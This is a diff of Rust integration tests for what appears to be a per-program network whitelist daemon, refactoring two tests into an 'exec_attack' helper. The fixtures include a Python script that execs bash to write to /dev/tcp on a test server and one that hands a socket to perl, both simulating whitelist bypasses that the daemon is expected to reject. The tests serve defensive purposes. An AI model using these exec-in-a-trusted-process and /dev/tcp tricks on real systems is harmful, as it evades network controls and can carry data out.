@@ -245,19 +245,7 @@ fn exec_in_the_same_pid_is_judged_again() {
 \
          os.execv('/bin/bash', ['bash', '-c', 'echo bash-after-exec > /dev/tcp/{SERVER_V4}/{SINK_PORT}'])\n"
     );
-    bed.as_attacker(python())
-        .args(["-c", &script])
-        .output()
-        .unwrap();
-    assert!(bed.sink_got("python-2", Duration::from_secs(5)));
-    std::thread::sleep(Duration::from_secs(2));
-    assert!(
-        !bed.sink_received().contains("bash-after-exec"),
-        "the program exec'd in a whitelisted program's pid got through: {}",
-        bed.sink_received()
-    );
-    let line = d.wait_trace_line(&["is not in whitelist -> REJECT."]);
-    assert!(line.contains("bash"), "{line}");
+    exec_attack(&bed, &d, &script, "python-2", "bash-after-exec", "bash");
     d.stop();
 }
 
@@ -366,20 +354,34 @@ fn a_socket_carried_across_exec_is_judged_for_the_program_that_uses_it() {
          \x20   os.set_inheritable(s.fileno(), True)\n\
          os.execv('/usr/bin/perl', ['perl', '-e', {perl:?}, str(used.fileno()), str(fresh.fileno())])\n"
     );
+    exec_attack(
+        &bed,
+        &d,
+        &script,
+        "python-before-exec",
+        "perl-after-exec",
+        "perl",
+    );
+    d.stop();
+}
+
+/// Runs the python `script` as the attacker: whitelisted python's
+/// `allowed` marker arrives; `blocked`, sent by the program it exec'd
+/// (`program`), does not, and that program is reported.
+fn exec_attack(bed: &Bed, d: &Daemon, script: &str, allowed: &str, blocked: &str, program: &str) {
     bed.as_attacker(python())
-        .args(["-c", &script])
+        .args(["-c", script])
         .output()
         .unwrap();
-    assert!(bed.sink_got("python-before-exec", Duration::from_secs(5)));
+    assert!(bed.sink_got(allowed, Duration::from_secs(5)), "{allowed}");
     std::thread::sleep(Duration::from_secs(2));
     assert!(
-        !bed.sink_received().contains("perl-after-exec"),
-        "perl got through on sockets python opened: {}",
+        !bed.sink_received().contains(blocked),
+        "{program}, exec'd by whitelisted python, got through: {}",
         bed.sink_received()
     );
     let line = d.wait_trace_line(&["is not in whitelist -> REJECT."]);
-    assert!(line.contains("perl"), "{line}");
-    d.stop();
+    assert!(line.contains(program), "{line}");
 }
 
 #[test]
